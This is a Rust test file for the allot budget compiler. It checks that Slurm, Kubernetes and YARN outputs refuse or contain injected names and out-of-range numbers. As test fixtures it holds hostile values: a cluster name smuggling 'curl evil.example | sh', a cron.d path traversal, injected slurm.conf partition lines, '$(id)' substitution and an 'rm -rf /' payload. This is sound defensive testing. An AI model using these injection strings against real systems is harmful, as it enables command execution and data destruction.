//! Hostile names and numbers (issue 12): values in budget files that would put text of
//! their own into the scripts and configuration files allot writes, or numbers that break
//! its arithmetic. Each budget is written by the test into a temporary folder; `allot
//! check` must refuse it with the right code at the right place, and `allot build` must
//! write nothing. The emitters are also called on models that skipped the checks: no text
//! may leave its line, and the rules each emitter checks refuse what they would write.

use allot_compiler::ir::Model;
use allot_compiler::test_support::{files_under, model};
use allot_targets::Emitted;

use crate::common::allot_in;

/// A budget bound to every target, with `{cluster}` and `{project}` where a test puts a
/// hostile line.
fn budget(cluster_lines: &str, policy: &str, projects: &str) -> String {
    format!(
        "cluster main gpus=64 gpu-type=h100 gpus-per-node=8 {{\n{cluster_lines}\n}}\n{policy}\ncontract batch min-runtime=\"1h\" default=#true\n{projects}\n"
    )
}

const BOUND: &str =
    "    slurm cluster=main partition=gpu\n    kubernetes kueue kai volcano yunikorn\n    yarn capacity fair";

/// `allot check` on the budget: the first JSON diagnostic with `code`, and the exit status.
fn check(text: &str, code: &str) -> (i32, serde_json::Value) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("allot.kdl"), text).unwrap();
    let (status, _, stderr) = allot_in(dir.path(), &["check", ".", "--diagnostics", "json"]);
    let found = stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|d| d["code"] == code)
        .unwrap_or_else(|| panic!("no {code} in\n{stderr}\nfor\n{text}"));
    (status, found)
}

/// The 1-based line of the first occurrence of `needle` in `text`.
fn line_of(text: &str, needle: &str) -> u64 {
    let at = text.find(needle).unwrap_or_else(|| panic!("`{needle}` not in\n{text}"));
    text[..at].lines().count().max(1) as u64 + u64::from(text[..at].ends_with('\n'))
}

/// `allot build` of the budget writes nothing and fails.
fn builds_nothing(text: &str) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("allot.kdl"), text).unwrap();
    let out = dir.path().join("out");
    let (status, stdout, stderr) = allot_in(dir.path(), &["build", ".", "--out", out.to_str().unwrap()]);
    assert_eq!(status, 1, "build must fail\n{stdout}\n{stderr}");
    let written = if out.exists() { files_under(&out) } else { Default::default() };
    assert!(written.is_empty(), "build wrote {:?}", written.keys().collect::<Vec<_>>());
}

/// Check refuses `text` with `code` on the line holding `needle`, and build writes nothing.
fn refused(text: &str, code: &str, needle: &str) {
    let (status, diagnostic) = check(text, code);
    assert_eq!(status, 1, "{diagnostic}");
    assert_eq!(diagnostic["file"], "allot.kdl", "{diagnostic}");
    assert_eq!(diagnostic["line"], line_of(text, needle), "{diagnostic}\n{text}");
    builds_nothing(text);
}

#[test]
fn a_slurm_cluster_name_cannot_carry_a_command() {
    let lines = "    slurm cluster=\"main\\ncurl evil.example | sh\" partition=gpu";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "slurm cluster=");
    let lines = "    slurm cluster=\"../../etc/cron.d/x\"";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "slurm cluster=");
}

#[test]
fn a_partition_cannot_add_a_slurm_conf_line() {
    let lines = "    slurm partition=\"gpu\\nPartitionName=evil Nodes=ALL AllowAccounts=ALL\"";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "slurm partition=");
    refused(
        &budget("    slurm partition=DEFAULT", "", "project a share=1"),
        "allot::name::invalid",
        "slurm partition=",
    );
}

#[test]
fn a_node_list_cannot_add_a_slurm_conf_setting() {
    for nodes in
        ["gpu[01-16]\\nPartitionName=evil Nodes=ALL", "x PriorityTier=9", "gpu[01-16", "gpu01,,gpu02"]
    {
        let lines = format!("    slurm partition=gpu nodes=\"{nodes}\"");
        refused(&budget(&lines, "", "project a share=1"), "allot::name::invalid", "slurm partition=");
    }
}

#[test]
fn a_quote_in_a_gpu_type_is_refused_not_dropped() {
    let text = "cluster main gpus=8 gpu-type=\"h'100\" {\n    slurm\n}\ncontract batch min-runtime=\"1h\" default=#true\nproject a share=1\n";
    refused(text, "allot::name::invalid", "gpu-type=");
}

#[test]
fn kubernetes_labels_resources_and_flavors_follow_kubernetes() {
    let lines = "    kubernetes kueue node-label=\"my label=big gpu\"";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "node-label=");
    let lines = "    kubernetes kueue resource=\"nvidia.com/gpu\\n  evil: true\"";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "resource=");
    let lines = "    kubernetes kueue flavor=\"H100/SXM\"";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "flavor=");
    let lines = "    yarn capacity resource=\"yarn.io/gpu=1,memory\"";
    refused(&budget(lines, "", "project a share=1"), "allot::name::invalid", "resource=");
}

#[test]
fn members_and_owners_cannot_carry_syntax() {
    let project = "project a share=1 {\n    users \"*\"\n}";
    refused(&budget(BOUND, "", project), "allot::name::unportable", "users");
    let project = "project a share=1 {\n    groups \"ml$(id)\"\n}";
    refused(&budget(BOUND, "", project), "allot::name::unportable", "groups");
    let project = "project a share=1 {\n    owners \"@acme/ml\\n* @evil\"\n}";
    let text = budget(BOUND, "", project);
    let (status, diagnostic) = check(&text, "allot::owner::invalid");
    assert_eq!((status, diagnostic["line"].as_u64()), (1, Some(line_of(&text, "owners"))), "{diagnostic}");
}

#[test]
fn weights_are_bounded() {
    for huge in ["1e300", "99999999999999999999", "1000000001"] {
        let projects = format!("project a share={huge}\nproject b share={huge}");
        refused(&budget(BOUND, "", &projects), "allot::value::out-of-range", "project a");
    }
    // A ratio of 1 to 10^12 written as a weight below 0.001.
    let projects = "project a share=1\nproject b share=0.000000000001";
    refused(&budget(BOUND, "", projects), "allot::value::out-of-range", "project b");
    let projects = "project a share=1\nproject b share=1.0005";
    refused(&budget(BOUND, "", projects), "allot::value::out-of-range", "project b");
}

#[test]
fn zero_durations_are_refused_where_they_mean_nothing() {
    refused(
        &budget(BOUND, "policy window=\"0s\"", "project a share=1"),
        "allot::value::out-of-range",
        "policy",
    );
    let text = budget(BOUND, "", "project a share=1").replace(
        "contract batch min-runtime=\"1h\" default=#true",
        "contract batch min-runtime=\"0s\" max-runtime=\"0s\" default=#true",
    );
    refused(&text, "allot::value::out-of-range", "contract batch");
    refused(
        &budget(BOUND, "policy window=\"9999w\"", "project a share=1"),
        "allot::value::out-of-range",
        "policy",
    );
    // A minimum runtime of 0s is allowed: the contract protects nothing.
    let text = budget(BOUND, "", "project a share=1").replace("min-runtime=\"1h\"", "min-runtime=\"0s\"");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("allot.kdl"), &text).unwrap();
    assert_eq!(allot_in(dir.path(), &["check", "."]).0, 0);
}

#[test]
fn the_widest_ratio_allowed_is_carried_and_its_loss_reported() {
    let dir = tempfile::tempdir().unwrap();
    let projects = "project a share=1000000000\nproject b share=0.001";
    std::fs::write(dir.path().join("allot.kdl"), budget(BOUND, "", projects)).unwrap();
    let out = dir.path().join("out");
    let (status, _, stderr) = allot_in(dir.path(), &["build", ".", "--out", out.to_str().unwrap()]);
    assert_eq!(status, 0, "{stderr}");
    let files = files_under(&out);
    let text = |path: &str| String::from_utf8(files[path].clone()).unwrap();
    let flat = text("slurm/main.cfg");
    let fairshares: Vec<u64> = flat
        .lines()
        .filter_map(|l| l.split(":Fairshare=").nth(1))
        .map(|rest| rest.split(':').next().unwrap().parse().unwrap())
        .collect();
    assert_eq!(fairshares, [2_147_483_646, 1], "{flat}");
    let slurm = text("slurm/FIDELITY.md");
    assert!(
        slurm.contains("| shares |") && slurm.contains("approximated ratios, the worst off by"),
        "{slurm}"
    );
    for (target, field) in [
        ("kueue", "weights among siblings"),
        ("kai", "weights among siblings"),
        ("yarn", "the worst ratio off by"),
    ] {
        let report = text(&format!("{target}/FIDELITY.md"));
        assert!(report.contains(field) && report.contains("approximated"), "{target}:\n{report}");
    }
}

/// Every key and string of a YAML document that holds part of the payload holds all of it
/// (or is itself a YAML document, as YuniKorn's `queues.yaml`, checked the same way).
fn whole_strings(value: &serde_json::Value, payload: &str, file: &str) {
    let check = |text: &str| {
        if text.contains("rm -rf") && !text.contains(payload) {
            let inner: serde_json::Value = serde_saphyr::from_str(text)
                .unwrap_or_else(|e| panic!("{file}: a piece of the payload stands alone in `{text}`: {e}"));
            whole_strings(&inner, payload, file);
        }
    };
    match value {
        serde_json::Value::String(text) => check(text),
        serde_json::Value::Array(items) => items.iter().for_each(|v| whole_strings(v, payload, file)),
        serde_json::Value::Object(map) => {
            for (key, v) in map {
                check(key);
                whole_strings(v, payload, file);
            }
        }
        _ => {}
    }
}

/// No element of an XML document comes from the payload, and every text or attribute that
/// holds part of it holds all of it.
fn whole_texts(element: &allot_targets::yarn::xml::Element, payload: &str, file: &str) {
    assert_ne!(element.name, "evil", "{file}: the payload made an element");
    let texts = std::iter::once(&element.text).chain(element.attributes.iter().map(|(_, v)| v));
    for text in texts {
        assert!(
            !text.contains("rm -rf") || text.contains(payload),
            "{file}: a piece of the payload in `{text}`"
        );
    }
    element.children.iter().for_each(|c| whole_texts(c, payload, file));
}

/// A shell script with what its single quotes and comments hold blanked out: the text the
/// shell reads as syntax.
fn outside_single_quotes(script: &str) -> String {
    let mut out = String::new();
    let (mut quoted, mut comment, mut escaped) = (false, false, false);
    let mut previous = '\n';
    for c in script.chars() {
        if escaped {
            escaped = false;
            out.push('_');
        } else if !quoted && !comment && c == '\\' {
            escaped = true;
            out.push(c);
        } else if comment {
            comment = c != '\n';
            out.push(if comment { '_' } else { c });
        } else if c == '\'' {
            quoted = !quoted;
            out.push(c);
        } else if !quoted && c == '#' && previous.is_whitespace() {
            comment = true;
            out.push(c);
        } else {
            out.push(if quoted { '_' } else { c });
        }
        previous = c;
    }
    out
}

/// A model that passed the checks, with hostile text put in afterwards.
fn hostile_model(payload: &str) -> Model {
    let mut model = model(&budget(
        "    slurm cluster=main partition=gpu\n    kubernetes kueue kai volcano yunikorn node-label=\"gpu=h100\"\n    yarn capacity fair",
        "",
        "project a share=1 {\n    users alice\n    namespaces team-a\n}\nproject b share=2",
    ));
    let cluster = &mut model.clusters[0];
    cluster.gpu_type = format!("h100{payload}");
    let slurm = cluster.bindings.slurm.as_mut().unwrap();
    slurm.cluster = format!("main{payload}");
    slurm.partition = format!("gpu{payload}");
    slurm.nodes = Some(format!("gpu[01-04]{payload}"));
    let kubernetes = cluster.bindings.kubernetes.as_mut().unwrap();
    kubernetes.flavor = format!("h100{payload}");
    kubernetes.resource = format!("nvidia.com/gpu{payload}");
    kubernetes.node_label = Some(format!("gpu=h100{payload}"));
    cluster.bindings.yarn.as_mut().unwrap().resource = format!("yarn.io/gpu{payload}");
    model.contracts[0].name = format!("batch{payload}");
    model.projects[0].users[0].name = format!("alice{payload}");
    model.projects[0].namespaces[0] = format!("team-a{payload}");
    model
}

#[test]
fn emitters_keep_hostile_text_on_its_line_and_validation_refuses_it() {
    let payload = "\n# x\nrm -rf / # '\"--> <evil/>";
    let model = hostile_model(payload);
    for target in allot_targets::registry() {
        let Emitted { files, violations } = target.emit(&model);
        assert!(!files.is_empty(), "{} emitted nothing", target.name());
        for file in &files {
            if file.path.ends_with(".yaml") {
                // YAML carries any string; the payload must stay one whole string.
                let documents: Vec<serde_json::Value> = serde_saphyr::from_multiple(&file.contents)
                    .unwrap_or_else(|e| panic!("{}/{}: {e}\n{}", target.name(), file.path, file.contents));
                for document in &documents {
                    whole_strings(document, payload, &format!("{}/{}", target.name(), file.path));
                }
                continue;
            }
            if file.path.ends_with(".xml") {
                // XML text carries any string (escaped); the payload must stay in one value.
                let root = allot_targets::yarn::xml::parse(&file.contents)
                    .unwrap_or_else(|e| panic!("{}/{}: {e}\n{}", target.name(), file.path, file.contents));
                whole_texts(&root, payload, &file.path);
                continue;
            }
            // In a script, a single-quoted word may span lines: it is still one word.
            let text = if file.path.ends_with(".sh") {
                outside_single_quotes(&file.contents)
            } else {
                file.contents.clone()
            };
            for line in text.lines() {
                assert!(
                    !line.trim_start().starts_with("rm -rf"),
                    "{}/{}: the payload starts a line of its own:\n{}",
                    target.name(),
                    file.path,
                    file.contents
                );
            }
        }
        assert!(!violations.is_empty(), "{}: the hostile names pass validation", target.name());
        let fidelity = target.fidelity(&model).to_markdown();
        assert!(!fidelity.is_empty());
    }
}

#[test]
fn a_quote_reaches_the_slurm_files_whole_and_is_refused_there() {
    let model = hostile_model("'");
    let slurm = allot_targets::slurm::Slurm;
    use allot_targets::Target;
    let Emitted { files, violations } = slurm.emit(&model);
    let cfg = files.iter().find(|f| f.path.ends_with(".cfg")).unwrap();
    // The quote is carried in double quotes, not dropped; read back, the file is refused
    // (Slurm could not have written that name), never taken for another tree.
    assert!(cfg.contents.contains("\"alice'\""), "{}", cfg.contents);
    assert!(allot_targets::slurm::tree::parse(&cfg.contents).is_err(), "{}", cfg.contents);
    assert!(violations.iter().any(|v| v.message.contains("quotes")), "{violations:?}");
}

#[test]
fn a_zero_replay_window_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("allot.kdl"), budget(BOUND, "", "project a share=1")).unwrap();
    std::fs::write(dir.path().join("trace.csv"), "id,project,gpus,submit,start,end\n1,a,8,0,0,3600\n")
        .unwrap();
    let (status, stdout, stderr) =
        allot_in(dir.path(), &["replay", "audit", "allot.kdl", "--trace", "trace.csv", "--window", "0s"]);
    assert_eq!(status, 1, "{stdout}");
    assert!(stderr.contains("--window: must be above zero") && !stdout.contains("NaN"), "{stderr}{stdout}");
}
